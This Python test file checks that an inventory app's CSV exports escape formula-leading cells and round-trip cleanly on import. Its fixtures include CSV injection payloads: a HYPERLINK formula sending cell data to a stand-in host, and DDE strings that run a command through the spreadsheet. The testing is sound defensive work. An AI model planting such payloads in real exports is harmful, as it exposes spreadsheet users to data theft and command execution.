"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ (or a
tab or CR) are escaped with a leading quote, numbers stay numbers, and an exported file
imports back unchanged."""

from __future__ import annotations

import csv
import io

import httpx

from jitstock.server.supplier.scorecard import Scorecard, scorecard_csv
from tests.server.api.conftest import seed_master

CSV = {"content-type": "text/csv"}
DANGEROUS = {
    "F-1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "F-2": "+cmd|' /C calc'!A0",
    "F-3": "-2+3",
    "F-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "F-5": "'=already quoted",
}


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text))}


def test_formula_cells_are_escaped_and_round_trip(manager: httpx.Client) -> None:
    seed_master(manager)
    for sku_id, name in DANGEROUS.items():
        r = manager.post(
            "/api/v1/skus",
            json={"id": sku_id, "name": name, "unit_weight_g": 2.5, "unit_cost": 0.5},
        )
        assert r.status_code == 201, r.text
    export = manager.get("/api/v1/skus.csv")
    assert export.status_code == 200
    rows = _rows(export.text)
    for sku_id, name in DANGEROUS.items():
        cell = rows[sku_id]["name"]
        assert cell == "'" + name, cell
        assert cell[0] not in "=+-@\t\r"
    assert rows["M6-bolt"]["name"] == "M6 bolt"  # harmless text untouched
    assert rows["F-1"]["unit_weight_g"] == "2.5"  # numbers untouched

    r = manager.post("/api/v1/skus/import", content=export.content, headers=CSV)
    assert r.status_code == 200, r.text
    assert r.json()["unchanged"] == len(rows)
    for sku_id, name in DANGEROUS.items():
        assert manager.get(f"/api/v1/skus/{sku_id}").json()["name"] == name


def test_bin_areas_and_lines_are_escaped_in_the_bin_export(
    manager: httpx.Client,
) -> None:
    seed_master(manager)
    r = manager.patch("/api/v1/bins/A-01", json={"area": "=1+1", "line": "@line"})
    assert r.status_code == 200, r.text
    row = _rows(manager.get("/api/v1/bins.csv").text)["A-01"]
    assert (row["area"], row["line"]) == ("'=1+1", "'@line")


def test_scorecard_csv_escapes_text_and_keeps_numbers() -> None:
    card = Scorecard(
        supplier_id="-evil",
        start_ms=0,
        end_ms=1,
        orders=3,
        orders_received=2,
        orders_cancelled=0,
        on_time_rate=-0.5,
        lead_time_mean_s=None,
        lead_time_std_s=None,
        quoted_lead_time_mean_s=None,
        lead_time_vs_quoted_mean_s=-12.0,
        ack_time_mean_s=None,
        units_ordered=10,
        units_received=10,
        units_over=0,
        units_short=0,
        fill_accuracy=1.0,
        weigh_in_over=0,
        weigh_in_short=0,
        units_inspected=0,
        units_rejected=0,
        quality_rate=None,
        escalations=0,
    )
    (row,) = csv.DictReader(io.StringIO(scorecard_csv([card])))
    assert row["supplier_id"] == "'-evil"
    assert row["lead_time_vs_quoted_mean_s"] == "-12.0"
    assert row["on_time_rate"] == "-0.5"
    assert row["quality_rate"] == ""
